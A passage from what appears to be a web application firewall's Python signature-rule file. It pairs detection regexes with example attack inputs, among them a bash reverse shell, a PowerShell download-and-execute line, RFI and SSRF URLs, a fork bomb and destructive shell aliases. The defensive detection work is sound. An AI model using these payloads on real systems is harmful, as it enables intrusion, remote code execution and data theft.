"""The signature rules: one data row per rule, walked by the matcher and by the tests.

Every row says which attack type it finds, in which request areas it applies,
its RE2 pattern (matched case-insensitively, never with a backtracking engine),
one example that must match and one benign look-alike that must not.

Rules look for the shape of an attack, never a single word: `select` alone is
prose, `union select` is SQL; a path with `/etc/passwd` is traversal, a word
"passwd" is not.
"""

from __future__ import annotations

import base64
from dataclasses import dataclass, replace
from typing import Final

from wallarm_sidecar.detect._points import (
    AREA_BODY_NAME,
    AREA_BODY_VALUE,
    AREA_COOKIE,
    AREA_FILENAME,
    AREA_HEADER,
    AREA_PATH,
    AREA_QUERY_NAME,
    AREA_QUERY_VALUE,
    AREA_RAW_BODY,
)

#: a header area of its own: the User-Agent (scanner signatures live there)
AREA_USER_AGENT: Final = "user_agent"

NAMES: Final = frozenset({AREA_QUERY_NAME, AREA_BODY_NAME})
VALUES: Final = frozenset(
    {AREA_QUERY_VALUE, AREA_BODY_VALUE, AREA_COOKIE, AREA_HEADER, AREA_USER_AGENT, AREA_RAW_BODY}
)
#: where a payload can sit: every value, every name, the path
ANYWHERE: Final = VALUES | NAMES | {AREA_PATH, AREA_FILENAME}
#: where a line break is a protocol attack (a form's textarea may hold newlines)
PROTOCOL: Final = frozenset(
    {AREA_PATH, AREA_QUERY_NAME, AREA_QUERY_VALUE, AREA_HEADER, AREA_USER_AGENT, AREA_COOKIE}
)
PATH_ONLY: Final = frozenset({AREA_PATH})
#: values a server may fetch or open (a Referer to localhost is just a developer)
SERVER_INPUTS: Final = frozenset({AREA_QUERY_VALUE, AREA_BODY_VALUE, AREA_COOKIE, AREA_RAW_BODY})
XML_CARRIERS: Final = frozenset({AREA_RAW_BODY, AREA_BODY_VALUE, AREA_QUERY_VALUE, AREA_COOKIE,
                                 AREA_HEADER})  # fmt: skip

#: attack types (Wallarm codes) that rules and detectors report
ATTACK_TYPES: Final = frozenset(
    {"sqli", "xss", "ptrav", "lfi", "rfi", "rce", "ssti", "nosqli", "ldapi", "xxe", "ssrf",
     "crlf", "redir", "mail_injection", "scanner"}
)  # fmt: skip


@dataclass(frozen=True, slots=True)
class Rule:
    """One signature: an RE2 pattern for one attack type in some request areas."""

    id: str
    attack_type: str
    areas: frozenset[str]
    pattern: str
    example: str
    benign: str
    #: whether the rule also applies inside documents (long multi-line text such as a
    #: blog post or a code snippet), where code and commands are content, not attacks
    in_documents: bool = True


# Shell commands that are not also everyday English words.
_STRONG_COMMANDS: Final = (
    r"whoami|uname|wget|curl|ncat|netcat|nc|bash|zsh|ksh|dash|sh|csh|tcsh|python[23]?(?:\.\d+)?|perl|ruby|"
    r"php|lua|node|powershell|pwsh|cmd(?:\.exe)?|systeminfo|printenv|ifconfig|ipconfig|nslookup|"
    r"certutil|bitsadmin|wmic|mkfifo|chmod|chown|useradd|usermod|crontab|busybox|socat|xterm|"
    r"telnet|tftp|nmap|tasklist|taskkill|regedit|id|ls|ps|rm|cat|tac|nl|uptime|hostname|"
    r"netstat|lsof|passwd|sudo|su|env|awk|gawk|sed|xxd|base64|openssl|dig|getent|"
    r"ping|traceroute|killall|pkill|shutdown|reboot|mount|strace|ltrace|gdb|"
    r"scp|sftp|ssh|rsync|ftp|rcp|rsh|rlogin|javac|gcc|pip[23]?|npm|"
    r"apt(?:-get)?|yum|dnf|apk|dpkg|rpm|systemctl|visudo|sqlite3|mysql|psql|"
    r"net\.exe|net1|powershell\.exe|wscript|cscript|mshta|rundll32|regsvr32|schtasks|bcdedit|"
    r"bcdboot|vssadmin|diskpart|icacls|cacls|takeown|attrib|findstr|nohup|xargs|grep|egrep|"
    r"fgrep|whereis|chgrp|mkdir|rmdir|gunzip|bzip2|hexdump|lastlog|lscpu|lsblk|lspci|lsusb|"
    r"lsmod|modprobe|insmod|iptables|tcpdump|ansible|ansible-playbook|docker|kubectl"
)
#: commands that are also everyday words: they need command-like arguments
_WORD_COMMANDS: Final = (
    r"echo|printf|set|export|unset|alias|eval|exec|source|timeout|sleep|kill|head|tail|more|"
    r"less|find|locate|which|file|stat|touch|tee|ln|cp|mv|tar|zip|unzip|gzip|7z|dd|od|strings|"
    r"who|last|finger|groups|history|jobs|time|date|cal|df|du|free|top|htop|route|arp|ip|git|"
    r"svn|hg|ver|vol|dir|type|copy|del|reg|rev|halt|java|cc|make|service"
)

#: utilities seldom named in prose, looked for right after a shell separator
_SHELL_EXTRAS: Final = (
    r"rmt(?:-\w+)?|lastlog(?:in)?|top|htop|aptitude|at|c89|c99|vim?|ex|flock|cpulimit|trap|"
    r"column|bridge|fold|comm|base32|perf|ssh-copy-id|ll|rc|unxz|xz|ab|zstdcat|bsdtar|aa-\w+|"
    r"cut|tr|shutdown|pwd|w|uname|cd|chef|cscli|ansible-\w+|nproc|dmesg|lshw|getfacl|"
    r"setfacl|chattr|lsattr|runuser|setsid|nice|ionice|stdbuf|unbuffer|expect|script|"
    r"tclsh|wish|irb|jrunscript|jjs|node|deno|bun|php-cgi|openssl"
)

#: a shell character class as wildcards use it (`[?]`, `[m-z]`, `[p//]`), not a
#: bracketed route parameter such as `[slug]`
_GLOB_CLASS: Final = r"\[(?:[?*]|\w|!?\^?\w-\w|\w?/+)\]"

#: what follows `javascript:` in a script URL: code right after the colon, a call,
#: assignment, index or template after one word, or nothing; a title such as
#: "JavaScript: The Good Parts" goes on with prose
_SCRIPT_URL_TAIL: Final = r"(?:[^\s]|\s+(?:[^\s\w]|\w+\s*[(=\[`])|\s*$)"


def _broken(word: str) -> str:
    """`word` with the characters browsers drop from a URL scheme allowed between its
    letters: tab, line breaks, and their HTML5 names (`&Tab;`, `&NewLine;`)."""
    gap = r"(?:[\t\n\r]|&(?:tab|newline);)*"
    return gap.join(word)


#: DOM event handler attribute names
_EVENTS: Final = (
    r"on(?:abort|activate|after\w*|animation\w*|auxclick|before\w*|begin\w*|blur|bounce|"
    r"cancel|can\w*|change|click|close|contextmenu|copy|cue\w*|cut|dbl\w*|drag\w*|drop|"
    r"duration\w*|emptied|end\w*|error|finish|focus\w*|form\w*|fullscreen\w*|hash\w*|help|"
    r"input|invalid|key\w*|load\w*|lose\w*|message\w*|mouse\w*|move\w*|offline|online|"
    r"page\w*|paste|pause|play\w*|pointer\w*|popstate|progress|property\w*|rate\w*|"
    r"readystate\w*|repeat|reset|resize|row\w*|scroll\w*|search|seek\w*|select\w*|show|"
    r"start|stalled|storage|submit|suspend|time\w*|toggle|touch\w*|transition\w*|unload|"
    r"volume\w*|waiting|webkit\w*|wheel|zoom|data\w*|content\w*|filter\w*|moz\w*|ms\w*)"
)

_TEXT_RULES: Final[tuple[Rule, ...]] = (
    # --- path traversal and sensitive files --------------------------------------
    Rule(
        "ptrav-dotdot-path",
        "ptrav",
        PATH_ONLY,
        # a `..` segment that more path follows, or a path that is only dots: a
        # trailing `/..` (`/docs/..`) names a directory inside the site, like `/`
        r"(?:^|[/\\])\.{2,}[/\\;]|^[/\\]+\.{2,}[/\\]*$",
        "/static/../../etc/hosts",
        "/static/app.v1..2/main.js",
    ),
    Rule(
        "ptrav-dotdot-multi",
        "ptrav",
        ANYWHERE,
        r"(?:\.{2,3}[/\\]+){2}",
        "../../secret.txt",
        "see ../chapter2 for details",
    ),
    Rule(
        # dots and slashes written as 0x escapes: `0x2e0x2e/`, `0x5c0x2e./`
        "ptrav-hex-escaped",
        "ptrav",
        ANYWHERE,
        r"(?:0x2e){2}(?:0x2f|0x5c|[/\\])|(?:0x5c|0x2f)0x2e(?:\.|0x2e)?(?:[/\\]|%00|\x00|0x2f|"
        r"0x5c)",
        "0x5c0x2e./",
        "color 0x2e5c2f",
    ),
    Rule(
        "ptrav-dotdot-encoded",
        "ptrav",
        ANYWHERE,
        r"\.\.(?:%2f|%5c|%252f|%255c|%c0%af|%c1%9c|%e0%80%af|%u2215|%u2216|0x2f|0x5c)|"
        # dots still encoded (a value decoded once less than the server will):
        # %2e%2e%2f, overlong UTF-8 %c0%ae%c0%ae%c0%af
        r"(?:%2e|%252e|%c0%ae|%e0%80%ae|%c0%2e|%u002e){2}(?:[/\\]|%2f|%5c|%252f|%255c|%c0%af|"
        r"%c1%9c|%e0%80%af|%u2215|%u2216)",
        "..%2fconfig",
        "100%2f2 done",
    ),
    Rule(
        "ptrav-dotdot-target",
        "ptrav",
        ANYWHERE,
        r"\.\.[/\\]+(?:etc|windows|winnt|boot|proc|sys|var|usr|root|home|system32|inetpub|"
        r"web-inf|meta-inf|\.env|\.git|\.ssh|\.aws)(?:[/\\]|\b)",
        "../etc/passwd",
        "go to etc/ next",
    ),
    Rule(
        "ptrav-dotdot-lead",
        "ptrav",
        VALUES | NAMES | {AREA_FILENAME},
        r"^\s*\.{2,}[/\\]+[^\s]*\.(?:ini|conf|cfg|log|xml|properties|yml|yaml|env|key|pem|"
        r"db|sqlite|sh|bash_history|htaccess|htpasswd|php|jsp|asp|aspx|py|rb|pl)\b",
        "..\\boot.ini",
        "docs/readme.md",
    ),
    Rule(
        "ptrav-unix-file",
        "ptrav",
        ANYWHERE,
        r"(?:^|[^\w.-])/?(?:etc/(?:passwd|shadow|group|gshadow|sudoers|subuid|subgid|"
        r"master\.passwd|security/opasswd|ssh/ssh_host_\w+_key)|proc/(?:self|\d+)/(?:environ|"
        r"cmdline|maps|fd/|mem|cwd|exe|root)|root/\.(?:ssh|bash_history|aws|kube|docker)|"
        r"var/run/secrets/kubernetes|dev/(?:tcp|udp)/|proc/(?:sys/(?:kernel|net|vm|fs)/|"
        r"net/(?:tcp|udp|arp|route|unix|fib_trie)\b|interrupts\b|kcore\b|kallsyms\b|"
        r"sched_debug\b)|etc/apache2/[\w/]*apache2\.conf\b)|"
        r"^\s*(?:file:/+)?/(?:etc/(?:hosts|issue|motd|crontab|fstab|mtab|profile|bashrc|hostname|"
        r"resolv\.conf|httpd/|apache2/|nginx/|mysql/my\.cnf|security/|pam\.d/|os-release|"
        r"lsb-release|environment|inetd\.conf|xinetd|network/interfaces)|proc/(?:version|cpuinfo|"
        r"meminfo|mounts|net/)|var/log/(?:apache|httpd|nginx|auth\.log|secure|messages|syslog|mail)|"
        r"usr/local/etc/)",
        "/etc/passwd",
        "my passwd is secret",
    ),
    Rule(
        "ptrav-windows-file",
        "ptrav",
        ANYWHERE,
        r"(?:[a-z]:|%\w+%)?[/\\]+(?:windows|winnt)[/\\]+(?:win\.ini|system\.ini|"
        r"system32[/\\]+(?:drivers[/\\]+etc|config[/\\]+sam|cmd\.exe|inetsrv)|"
        r"repair[/\\]|debug[/\\]|panther[/\\])|(?:^|[/\\])boot\.ini\b|"
        r"\b(?:win|system)\.ini\b|[/\\]inetpub[/\\]|[/\\]autoexec\.bat\b",
        "c:\\windows\\win.ini",
        "my windows are clean",
    ),
    Rule(
        # a UNC path to a Windows administrative share: \\host\c$\, \\host\admin$
        "ptrav-unc-admin-share",
        "ptrav",
        ANYWHERE,
        r"(?:\\\\|//)[\w.:\[\]-]+[\\/](?:[a-z]|admin|ipc|print)\$(?:[\\/]|$)",
        "\\\\::1\\c$\\users\\default\\ntuser.dat",
        "\\\\fileserver\\public\\report.pdf",
    ),
    Rule(
        "ptrav-java-webinf",
        "ptrav",
        ANYWHERE,
        r"(?:^|[/\\])(?:web-inf|meta-inf)[/\\]+(?:web\.xml|classes|lib|[\w-]+\.(?:xml|properties|"
        r"mf))",
        "/WEB-INF/web.xml",
        "web info page",
    ),
    Rule(
        "ptrav-restricted-file",
        "ptrav",
        PATH_ONLY,
        r"(?:^|/)(?:\.env(?:\.[\w-]+)?|\.git/|\.git$|\.svn/|\.hg/|\.bzr/|\.htaccess|\.htpasswd|"
        r"\.aws/|\.ssh/|\.bash_history|\.zsh_history|\.npmrc|\.pypirc|\.netrc|\.dockercfg|"
        r"\.docker/config\.json|\.kube/config|\.ds_store|\.idea/|\.vscode/sftp|"
        r"id_rsa|id_dsa|id_ecdsa|id_ed25519|wp-config\.php|web\.config|config\.php\.bak|"
        r"\.travis\.yml|\.gitlab-ci\.yml|docker-compose\.ya?ml|\.terraform|terraform\.tfstate|"
        r"\.mysql_history|\.psql_history|\.pgpass|\.my\.cnf|credentials\.json|"
        r"[\w-]*debug\.log$|\.(?:claude|cline|clinerules|cursor|cursorrules|junie|kiro|roo|"
        r"codex|opencode|plandex|n8n|windsurf|continue|aider[\w.-]*|gemini|copilot|aiignore|"
        r"augment|amazonq|goose|mcp|zed|rovodev|a0proj|fabric|cursorignore|aiderignore)"
        r"(?:/|\b)|[\w-]*errors?\.log$|\.(?:sql|bak|old|swp|orig|save|backup)"
        r"(?:\.(?:zip|gz|bz2|tar|tgz|7z|xz))?$|/(?:proc|sys)/(?:self|\d+|interrupts|cpuinfo|"
        r"meminfo|version|mounts|net|class|kernel|devices|firmware|fs|module|bus|block)\b)",
        "/.git/config",
        "/docs/git-guide",
    ),
    Rule(
        "ptrav-filename",
        "ptrav",
        frozenset({AREA_FILENAME}),
        r"\.\.[/\\]|^\s*[/\\]",
        "../../var/www/shell.php",
        "holiday..photo.jpg",
    ),
    Rule(
        "ptrav-sensitive-name",
        "ptrav",
        VALUES | NAMES,
        r"(?:^|[/\\=\s])\.(?:ssh|aws|docker|kube|gnupg|git|svn)[/\\]\w|"
        r"\bid_(?:rsa|dsa|ecdsa|ed25519)(?:$|[^.\w])|(?:^|[/\\])\.(?:bash_|zsh_|mysql_|psql_)?"
        r"history$|^\s*/(?:sys|proc)/(?:class|kernel|devices|fs|self|\d+|interrupts|cpuinfo|"
        r"meminfo|version|mounts|net)\b|^\s*\.\.\\|\.\.;[/\\.]|^\s*\.\.[/\\]+\.",
        ".ssh/id_rsa",
        "copy your id_rsa.pub key",
    ),
    Rule(
        "ptrav-null-byte",
        "lfi",
        ANYWHERE,
        r"\.(?:php|inc|txt|html?|jsp|asp|conf|ini|log)\x00",
        "page.php\x00",
        "page.php",
    ),
    # --- local file inclusion via wrappers ----------------------------------------
    Rule(
        "lfi-php-wrapper",
        "lfi",
        ANYWHERE,
        r"(?:php|zip|phar|glob|expect|compress\.zlib|compress\.bzip2|zlib|rar|ogg|ssh2(?:\.\w+)?)"
        r"://",
        "php://filter/convert.base64-encode/resource=index.php",
        "https://php.net/manual",
    ),
    Rule(
        "lfi-file-scheme",
        "lfi",
        ANYWHERE,
        r"(?:^|[^\w])(?:url:)?file:(?://|/|\\\\)",
        "file:///etc/hosts",
        "profile: http://x",
    ),
    Rule(
        "lfi-data-wrapper",
        "lfi",
        ANYWHERE,
        # a data: URL whose content is PHP code, plain or base64 (`<?` is `PD8`/`PD9`):
        # images and text files sent as data URLs are everyday API traffic
        r"(?:^|[^\w])data:(?://)?\s*[\w.+-]*/?[\w.+-]*(?:;[\w.+=-]*)*,\s*(?:<\?|PD[89+/])",
        "data://text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWzBdKTs/Pg==",
        "data://text/plain;base64,SSBsb3ZlIFBIUAo=",
    ),
    Rule(
        "lfi-proc-self",
        "lfi",
        ANYWHERE,
        r"/proc/self/(?:fd/\d|environ)",
        "/proc/self/environ",
        "/process/self/",
    ),
    # --- remote file inclusion -----------------------------------------------------
    Rule(
        "rfi-ip-url",
        "rfi",
        VALUES | NAMES,
        r"^\s*(?:https?|ftps?)://(?:\d{1,3}\.){3}\d{1,3}(?::\d+)?/[^\s]*\.(?:php\d?|phtml|txt|"
        r"jsp|asp|aspx|pl|py|cgi|sh|inc)\b",
        "http://10.1.2.3/shell.txt",
        "http://10.1.2.3/status",
    ),
    Rule(
        "rfi-ipv6-url",
        "rfi",
        VALUES | NAMES,
        r"^\s*(?:https?|ftps?)://(?:\[[0-9a-f:]+\]|[0-9a-f]{0,4}(?::[0-9a-f]{0,4}){2,7})/[^\s]*"
        r"\.(?:php\d?|txt|inc)\b",
        "https://[2001:db8::1]/gecko.php",
        "https://[2001:db8::1]/",
    ),
    Rule(
        "rfi-trailing-query",
        "rfi",
        VALUES,
        r"^\s*(?:https?|ftps?|file)(?:://[^\s?#]*)?\?+\s*$|^\s*(?:https?|ftps?)://[^\s]+%00",
        "http://evil.example/shell.txt?",
        "http://example.com/search?q=1",
    ),
    Rule(
        "rfi-include-param",
        "rfi",
        VALUES,
        r"^\s*(?:https?|ftps?)://[^\s]+\.(?:txt|inc|phtml)\?+",
        "http://evil.example/c99.txt??",
        "http://example.com/a.txt",
    ),
    Rule(
        "rfi-exotic-scheme",
        "ssrf",
        VALUES,
        r"^\s*(?:url:)?(?:gopher|dict|ldap|ldaps|ldapi|tftp|jar|netdoc|sftp|rmi|iiop|jnlp|"
        r"smb|nfs|local_file|mailto:[^@]*%0a)(?::|://)",
        "gopher://127.0.0.1:6379/_INFO",
        "go for it",
    ),
    # --- server-side request forgery ----------------------------------------------
    Rule(
        "ssrf-metadata",
        "ssrf",
        ANYWHERE,
        r"169\.254\.169\.254|\[?fd00:ec2::254|metadata\.google\.internal|100\.100\.100\.200|"
        r"metadata\.azure\.com|169\.254\.170\.2|/latest/meta-data|/computeMetadata/v1|"
        r"/metadata/instance\?api-version|/openstack/latest/|/metadata/v1(?:\.json|/)|"
        r"metadata\.packet\.net|metadata\.platformequinix\.com",
        "http://169.254.169.254/latest/meta-data/",
        "http://169.254.1.1/",
    ),
    Rule(
        "ssrf-loopback-url",
        "ssrf",
        SERVER_INPUTS,
        r"^\s*[a-z][\w+.-]*://(?:[^/@\s]*@)?localhost[46]?(?:[/?#\\]|$)|"
        r"^\s*(?:https?|ftp|gopher|dict):/?(?:127(?:\.\d+){3}|localhost)\b|"
        r"^\s*[a-z][\w+.-]*://(?:[^/@\s]*@)?(?:127(?:\.\d+){1,3}|0\.0\.0\.0|"
        r"0+|\[(?:0*:)*:?0*1\]|\[::\]|\[::ffff:[\d.]+\]|\[0:0:0:0:0:ffff:[\d.:a-f]+\]|"
        r"2130706433|0x7f[0-9a-f.]*|0177\.[\d.]+|017700000001|"
        r"(?:\d+\.)?(?:0x[0-9a-f]+|0[0-7]+)(?:\.(?:0x[0-9a-f]+|\d+)){0,3}|"
        r"\d{8,10}|host\.(?:docker|containers)\.internal|kubernetes\.default(?:\.svc)?|"
        r"[\w.-]*\.(?:nip\.io|xip\.io|sslip\.io|localtest\.me|lvh\.me)|localhost\.localdomain)"
        r"(?:[:/?#\\]|$)",
        "http://127.0.0.1:8080/admin",
        "http://example.com/127.0.0.1",
    ),
    Rule(
        "ssrf-encoded-address",
        "ssrf",
        SERVER_INPUTS | NAMES,
        r"^\s*[a-z][\w+.-]*:/*(?:[^/@\s]*@)?(?:\d{8,10}|169\.254\.\d+(?:\.\d+)?|192\.0\.0\.192|"
        r"\d{1,3}\.\d{7,8}|\d{1,3}\.\d{1,3}\.\d{5,6}|0x[0-9a-f]{8}|"
        r"\[[0-9a-f:]*::ffff:[0-9a-f:.]+(?:%[\w]+)?\]|\[(?:fe80|fc00|fd[0-9a-f]{2}|::1?)[0-9a-f:]*"
        r"(?:%\w+)?\]|0[0-7]{2,4}(?:\.0[0-7]{1,4}){3})(?:[:/?#\]]|$)|"
        r"^\s*[a-z][\w+.-]*://[^\s]*[\x{2460}-\x{24ff}]|^\s*https?://[^\s/]*[#%\s][^\s/]*@"
        r"(?:127\.|10\.|192\.168\.|169\.254\.|localhost)|^\s*https?://[^/]{0,80}[\s#][^/]{0,80}@"
        r"\s*(?:127\.|10\.|192\.168\.|169\.254\.|localhost)",
        "http://2852039166/",
        "http://example.com/2852039166",
    ),
    Rule(
        # a URL whose host is an IPv6 literal (`http://[a::b]/`): the spellings of one
        # address are endless, and a user-facing link never needs one
        "ssrf-ipv6-literal",
        "ssrf",
        SERVER_INPUTS,
        r"^\s*[a-z][\w+.-]*://(?:[^/@\s]*@)?\[[0-9a-f.]*:[0-9a-f:.]*(?:%[\w.-]+)?\](?:[:/?#]|$)",
        "http://[dead:beef::1]/",
        "http://example.com/[a:b]",
    ),
    Rule(
        "ssrf-loopback-host",
        "ssrf",
        SERVER_INPUTS,
        r"^\s*(?:localhost\d?|localhost[46]?\.localdomain[46]?|ip6-loopback|ip(?:v)?6-localhost|"
        r"[\w.-]+\.docker\.internal|lvh\.me|(?:[\w.-]+\.)?localtest\.me|"
        r"kubernetes\.default\.svc(?:\.cluster\.local)?)(?::\d+)?/",
        "localhost/admin",
        "localhost is my machine",
    ),
    Rule(
        "ssrf-internal-host",
        "ssrf",
        SERVER_INPUTS,
        r"^\s*(?:[a-z][\w+.-]*://)?(?:host\.(?:docker|containers)\.internal|localhost4|"
        r"localhost6|kubernetes\.default\.svc|metadata|instance-data)(?:[:/]|$)",
        "host.docker.internal/",
        "docker internals",
    ),
    Rule(
        "ssrf-obfuscated-url",
        "ssrf",
        VALUES,
        r"^\s*(?:https?|ftp)://(?:[^/\s]*\\\\){2,}|^\s*https?://[^/\s?#]*[\x{2460}-\x{24ff}\x{ff0e}]",
        "http://\\\\g\\\\o\\\\o\\\\g\\\\l\\\\e.\\\\c\\\\o\\\\m/",
        "http://example.com/a\\b",
    ),
    # --- shell command injection ----------------------------------------------------
    Rule(
        "rce-shell-separator",
        "rce",
        ANYWHERE,
        r"(?:[;&|`\n\r]|\$\(|\|\|)\s*(?:[\\'\"]?/?(?:usr/|s?bin/|usr/s?bin/|usr/local/s?bin/)?)"
        r"(?:whoami|uname|wget|curl|ncat|netcat|bash|zsh|ksh|powershell|pwsh|cmd\.exe|"
        r"systeminfo|printenv|ifconfig|ipconfig|nslookup|certutil|bitsadmin|wmic|mkfifo|"
        r"crontab|busybox|socat|xterm|tasklist|taskkill|regedit|getent|uptime|netstat|lsof|"
        r"visudo|strace|mshta|rundll32|regsvr32|schtasks|vssadmin|bcdboot|bcdedit|icacls|"
        r"ansible(?:-[a-z]+)?|chef-[a-z]+|cscli|kubectl|iwr|invoke-webrequest)"
        r"(?:[\s;|&<>`'\")]|\$|$)",
        "; whoami",
        "hello whoami",
    ),
    Rule(
        "rce-shell-short",
        "rce",
        ANYWHERE,
        r"(?:[;&|\n]|\$\(|\|\||(?:^|[=('\"])\s*`)\s*(?:/?(?:usr/)?s?bin/)?"
        r"(?:id|ls|ps|pwd|uname -a|env|cat|nc|sh|ver|dir|hostname|who|ip a|ip addr|ls -\w+)"
        r"\s*(?:[;&`)\n]|\|\|?\s*(?:" + _STRONG_COMMANDS + r")\b|$|\s+-\w|\s*[/\\]|\s*\$|\s*[<>])|"
        r"^\s*(?:id|ls(?:\s+-\w+)?(?:\s+/\S*)?|pwd|uname\s+-\w+|whoami|ifconfig|ipconfig)\s*;?\s*$",
        ";id;",
        "Tom & Jerry",
    ),
    Rule(
        "rce-shell-command-args",
        "rce",
        ANYWHERE,
        r"(?:[;&|`\n]|\$\(|\|\|)\s*(?:/?(?:usr/)?s?bin/)?(?:" + _STRONG_COMMANDS + r")"
        r"(?:\s+-{1,2}[\w-]+)*\s+(?:/(?:etc|bin|tmp|dev|var|usr|proc|home|root|opt|sys)?\b|"
        r"[a-z]:\\|%\w+%|\$\{?\w+|https?://|[\w.-]+\s*[|>]|>|\.\.?/|\+[rwxs]+\b|"
        r"\d{1,3}(?:\.\d{1,3}){3}\b|\d+\s*(?:$|[;&|`)]))|"
        r"(?:[;&|`\n]|\$\(|\|\|)\s*(?:/?(?:usr/)?s?bin/)?(?:" + _WORD_COMMANDS + r")"
        r"(?:\s+-{1,2}[\w-]+)*\s+(?:/(?:etc|bin|tmp|dev|var|usr|proc|home|root|opt|sys)\b|"
        r"[a-z]:\\|%\w+%|\$\{?\w+|>\s*/|\d+\s*(?:$|[;&|`)]))|"
        r"(?:[;&|\n]|\$\(|\|\|)\s*(?:ping|rm|nc|ncat|wget|curl|kill|chmod|sleep|timeout|"
        r"nslookup|dig|whoami|uname|ls|id|cat|net|reg|tasklist)\s+-{1,2}[a-z][\w-]*",
        ";cat /etc/hosts",
        "cat and dog",
    ),
    Rule(
        "rce-command-substitution",
        "rce",
        ANYWHERE,
        r"\$\(\s*(?:"
        + _STRONG_COMMANDS
        + r")(?:\s|\$\(|\)|$|;)|(?:^|[;&|=('\"]\s*)`\s*(?:"
        + _STRONG_COMMANDS
        + r")(?:\s[^`]*)?`",
        "$(whoami)",
        "costs $(5) dollars",
    ),
    Rule(
        "rce-shell-evasion",
        "rce",
        ANYWHERE,
        r"\$\{?IFS\}?|\$\{?PATH:\d|\$@|/\?\?\?/|/bin/[\w?*]*[?*]|/[?*]{3,}|"
        r"/(?:etc|bin|usr|dev|proc|tmp|var)/[\w.]*(?:\[!?\^?\w+\]|\*(?:$|[^.\w])|\*\w|\?)|"
        r"\{\s*(?:cat|ls|id|nc|wget|curl|echo|bash|sh),|"
        r"\$'\\x[0-9a-f]{2}|\$'[a-z]+'|\w\s*<<<\s*['\"]?\w|"
        r"/\w*" + _GLOB_CLASS + r"\w*/",
        "cat${IFS}/etc/hosts",
        "cost: $5",
    ),
    Rule(
        "rce-reverse-shell",
        "rce",
        ANYWHERE,
        r"/dev/(?:tcp|udp)/[\w.-]+/\d|\b(?:bash|sh)\s+-i\b|\bnc(?:at)?\s+(?:-\w+\s+)*-[ec]\s|"
        r"\d>&\d|>&\s*/dev/|\bmkfifo\s|\bsocat\s+(?:tcp|exec|-)|"
        r"\b(?:python|perl|ruby|php)\d?\s+-[ecr]\s",
        "bash -i >& /dev/tcp/10.0.0.1/4242 0>&1",
        "bash is a shell",
    ),
    Rule(
        "rce-windows-cmd",
        "rce",
        ANYWHERE,
        r"\bcmd(?:\.exe)?\s*/[ckr]\b|\bpowershell(?:\.exe)?\s+-|%(?:systemroot|comspec|windir|"
        r"programfiles|userprofile|temp|appdata)%|[;&|]\s*(?:net\s+(?:user|localgroup|view|use)|"
        r"reg\s+(?:query|add|delete|export)|type\s+[a-z]:\\|dir\s+[a-z]:\\|copy\s+[a-z]:\\|"
        r"del\s+[/a-z]|echo\s+\S+\s*>|wmic\s|start\s+\w)|\bfor\s+/[fdlr]\b|"
        r"\bfor\s+%%?\w\s+in\s*\(|\bif\s+(?:not\s+)?(?:exist|defined|errorlevel)\s",
        "| cmd.exe /c dir",
        "cmd line",
    ),
    Rule(
        "rce-shellshock",
        "rce",
        ANYWHERE,
        r"\(\s*\)\s*\{\s*[:\w]*\s*;?\s*\}\s*;|^\s*\(\s*\)\s*\{",
        "() { :; }; /bin/eject",
        "f() { return 1 }",
    ),
    Rule(
        "rce-fork-bomb",
        "rce",
        ANYWHERE,
        r"[\w:.]+\s*\(\s*\)\s*\{[^}]{0,40}\|[^}]{0,40}&\s*\}\s*;",
        ":(){ :|:& };:",
        "f() { a || b }",
    ),
    Rule(
        "rce-windows-script",
        "rce",
        ANYWHERE,
        r"\bfor\s+(?:/[a-z]\s+)*%%?[^\s]{1,3}\s+in\s*\(|\bif\s+(?:/i\s+)?(?:not\s+)?"
        r"(?:exist|defined|errorlevel|[\"%(\[]?%[\w~]+%|\S+\s*(?:==|\s(?:equ|neq|lss|leq|gtr|geq)\s))"
        r"[^\n]{0,120}?\b(?:echo|goto|set|cmd|call|cd|del|copy|start|exit|do|type|dir)\b",
        "IF EXIST c:\\boot.ini echo found",
        "if it exists, echo it",
    ),
    Rule(
        "rce-powershell",
        "rce",
        ANYWHERE,
        r"\b(?:invoke-(?:expression|webrequest|command|item|restmethod|wmimethod|shellcode|"
        r"mimikatz)|iex\s*\(|new-object\s+(?:system\.)?net\.webclient|downloadstring\s*\(|"
        r"downloadfile\s*\(|start-process|get-wmiobject|iwmi\s|set-executionpolicy|"
        r"-encodedcommand\b|win32_process|add-mppreference|bypass\s+-nop|"
        r"powershell(?:\.exe)?\s+(?:-\w+|[a-z]:[\\/]|\S+\.(?:exe|ps1|bat|cmd)\b))",
        "IEX (New-Object Net.WebClient).DownloadString('http://x/a')",
        "invoke the expression",
    ),
    Rule(
        "rce-shell-constructs",
        "rce",
        ANYWHERE,
        r"\balias\s+[\w-]+\s*=\s*['\"]?\w|\{\s*,[^}]{1,60}\}|\{[\w.]+,\s*-[\w]+\s*\}|"
        r"<\(\s*(?:" + _STRONG_COMMANDS + r")\b|\$\{?(?:shell|bash|0)\}?\s+-c\b|"
        r"\$\(\(\s*\d+\s*\)\)|\w\$(?:\?|\$|@|\*|\{\w*\})\w",
        "alias ls='rm -rf /'",
        "an alias for it",
    ),
    Rule(
        # text turned into a command on the way: `printf '...' | rev`, `| base64 -d | sh`
        "rce-decode-pipeline",
        "rce",
        VALUES | NAMES,
        r"\|\s*(?:rev|base64\s+(?:-d|--decode|-D)|xxd\s+-r\w*|base32\s+-d)\b[^|]{0,40}"
        r"(?:\||\)|`|$)",
        "$(printf 'di' | rev)",
        "a | b revision",
    ),
    Rule(
        "rce-command-line",
        "rce",
        VALUES,
        r"^\s*['\"]?(?:(?:sudo|nohup|time|env|timeout\s+\d+|xargs|exec|busybox|strace|cpulimit\s+-\S+"
        r"\s+\d+\s+-f)\s+)*(?:whoami|uname|ifconfig|ipconfig|wget|curl|ncat|netcat|nc|bash|zsh|sh|"
        r"gunzip|xzcat|unxz|bsdtar|python[23]?(?:\.\d+)?|perl|ruby|php|powershell|pwsh|nmap|chmod|chown|crontab|useradd|visudo|"
        r"ansible(?:-[a-z]+)?|chef-[a-z]+|cscli|kubectl|docker|systemctl|perf|strace|gdb|"
        r"tcpdump|iptables|base32|base64|zstdcat|zcat|bzcat|xxd|nslookup|netstat|ss|lsof|"
        r"killall|pkill|mkfifo|socat|telnet|tftp|rsync|scp|ssh(?:-[a-z-]+)?|pip[23]?|npm|gem|"
        r"apt(?:-get)?|yum|dnf|apk)\s+(?:-{1,2}[a-z][\w-]*|/[\w.*?/-]+|install\s|all\s|"
        r"alerts\s|[\w.-]+\.(?:ya?ml|rb|sh|py|pl|zst|gz)\b|[\w.-]+@[\w.-]+|\d+\.\d+\.\d+\.\d+)|"
